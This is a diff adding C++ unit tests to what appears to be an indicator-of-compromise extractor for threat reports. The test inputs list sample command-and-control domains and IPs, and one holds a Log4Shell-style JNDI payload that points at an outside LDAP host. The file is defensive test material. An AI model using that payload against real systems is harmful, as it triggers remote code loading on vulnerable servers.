@@ -461,5 +461,24 @@ TEST(ListForms, WhatIsBrokenInACommentOfAListIsMeant) {
       (Values{"domain bug.test", "domain moth.test", "domain sand.test", "url http://moth.test/a"}));
 }
 
+TEST(ListForms, TheLastLineAboveAFenceIsNoHeading) {
+  EXPECT_EQ(values_of(read(
+                "== Samples\n\nAll hashes are SHA1\n\n=== C&C Domains\n----\nmoth.test\nsand.test\nbug.test\n----\n\n"
+                "=== IPs\n----\n45.9.148.7\n----\n")),
+            (Values{"domain bug.test", "domain moth.test", "domain sand.test", "ipv4 45.9.148.7"}));
+}
+
+TEST(ListForms, ALineOfAFencedListSaysWhatItIs) {
+  EXPECT_EQ(
+      values_of(read(
+          "### Network\n\n```\nmoth.com        Staging / delivery server (HTTPS)\nsand.com        Public-IP look-up\n```\n")),
+      Values{"domain moth.com"});
+}
+
+TEST(ListForms, ACurlyBracketIsNoEndOfAnAddress) {
+  EXPECT_EQ(values_of(read("# Payloads of the attack\n\n- ${jndi:ldap://45.9.148.7:1389/Moth}\n")),
+            Values{"url ldap://45.9.148.7:1389/Moth"});
+}
+
 }  // namespace
 }  // namespace clew::intel
